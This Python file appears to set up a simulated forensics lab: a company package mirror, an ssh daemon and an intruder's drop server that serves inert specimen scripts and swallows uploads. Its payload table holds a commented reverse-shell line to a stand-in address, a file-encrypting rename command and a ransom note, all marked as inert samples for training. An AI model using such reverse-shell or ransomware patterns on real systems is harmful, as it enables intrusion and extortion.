# SPDX-License-Identifier: Apache-2.0
"""The hosts beyond the cable: the package mirror, the intruder's drop server, and db01's ssh."""

from __future__ import annotations

import subprocess
import threading
from functools import partial
from http.server import BaseHTTPRequestHandler, SimpleHTTPRequestHandler, ThreadingHTTPServer

from actors import record

PAYLOADS = {
    "/lp.sh": "#!/bin/sh\n# inert specimen: stands for a privilege survey script (linpeas-like)\n"
    "echo 'inert specimen of a forensic sample'\nid\nfind / -maxdepth 1 >/dev/null 2>&1\n",
    "/upd.sh": "#!/bin/sh\n# inert specimen: stands for a beacon; the next line is text and is never run\n"
    "# bash -i >& /dev/tcp/198.51.100.99/4444 0>&1\nexit 0\n",
    "/lock.sh": "#!/bin/sh\n# inert specimen: calls the laboratory's own renamer, which no image contains\n"
    "find \"$1\" -type f ! -name '*.encrypted' -exec /usr/sbin/lab-xor {} +\n",
    "/note.txt": "!!! 您的文件已被加密 / YOUR FILES HAVE BEEN ENCRYPTED !!!\nAll files were renamed to *.encrypted.\n"
    "To restore them write to restore@drop.example and quote WEB01-7731.\n"
    "(inert specimen of a forensic sample: XOR 0x5a)\n",
}


class Drop(BaseHTTPRequestHandler):
    """Serves inert scripts and swallows uploads, counting their bytes."""

    def do_GET(self) -> None:
        """Answer a download."""
        text = PAYLOADS.get(self.path, "").encode()
        self.send_response(200 if text else 404)
        self.send_header("Content-Length", str(len(text)))
        self.end_headers()
        self.wfile.write(text)
        record(act="drop_get", path=self.path, client=self.client_address[0], size=len(text))

    def do_PUT(self) -> None:
        """Take an upload and forget it."""
        size = int(self.headers.get("Content-Length", "0"))
        left = size
        while left and (piece := self.rfile.read(min(65536, left))):
            left -= len(piece)
        self.send_response(201)
        self.send_header("Content-Length", "0")
        self.end_headers()
        record(act="drop_put", path=self.path, client=self.client_address[0], size=size)

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002
        """Say nothing; the record says it."""


class Mirror(SimpleHTTPRequestHandler):
    """The package mirror of the company."""

    def translate_path(self, path: str) -> str:
        """Serve /debian/ from the mirror's folder."""
        return super().translate_path(path.removeprefix("/debian"))

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002
        """Say nothing."""


def start(intrusion: bool) -> None:
    """Start what the week needs; the drop server lives only where an intruder does."""
    mirror = ThreadingHTTPServer(("10.20.0.5", 80), partial(Mirror, directory="/srv/mirror"))
    threading.Thread(target=mirror.serve_forever, kwargs={"poll_interval": 86400}, daemon=True).start()
    subprocess.Popen(["dropbear", "-F", "-p", "10.20.0.8:22", "-r", "/lab/dropbear_key"])
    if intrusion:
        drop = ThreadingHTTPServer(("198.51.100.99", 80), Drop)
        threading.Thread(target=drop.serve_forever, kwargs={"poll_interval": 86400}, daemon=True).start()
